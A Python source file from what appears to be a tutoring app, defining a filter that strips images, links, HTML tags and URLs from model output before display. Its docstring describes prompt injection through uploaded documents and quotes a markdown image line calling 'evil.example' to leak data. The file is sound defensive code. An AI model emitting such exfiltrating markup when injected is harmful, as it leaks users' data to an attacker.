"""Model output made safe to render: no HTML, no images, no links out of the app.

A model can be talked into emitting markup by text hidden in an uploaded document
(``![x](https://evil.example/leak?data=...)`` would make the browser call out).
Everything the model writes passes through :func:`safe_markdown` before it reaches a
page, also while it streams (the filter is applied to the text so far each time).
"""

from __future__ import annotations

import re

from tutor.content.text_cleaning import clean_text

_IMAGE = re.compile(r"!\[[^\]]*\]\([^)]*\)?")
_REFERENCE_IMAGE = re.compile(r"!\[[^\]]*\]\[[^\]]*\]")
_LINK = re.compile(r"\[([^\]]*)\]\([^)]*\)?")
_REFERENCE_DEFINITION = re.compile(r"^\s*\[[^\]]+\]:\s*\S+.*$", re.MULTILINE)
_TAG = re.compile(r"</?[A-Za-z!][^>]*>?")
_URL = re.compile(r"\b(?:https?|ftp|data|javascript|file):[^\s)>\]]*", re.IGNORECASE)
_WWW = re.compile(r"\bwww\.[^\s)>\]]+", re.IGNORECASE)


def safe_markdown(text: str) -> str:
    """Strip images, links (their text stays), HTML tags, URLs and hidden characters."""
    text = clean_text(text)
    text = _IMAGE.sub("", text)
    text = _REFERENCE_IMAGE.sub("", text)
    text = _REFERENCE_DEFINITION.sub("", text)
    text = _LINK.sub(lambda m: m.group(1), text)
    text = _TAG.sub("", text)
    text = _URL.sub("[link removed]", text)
    return _WWW.sub("[link removed]", text)
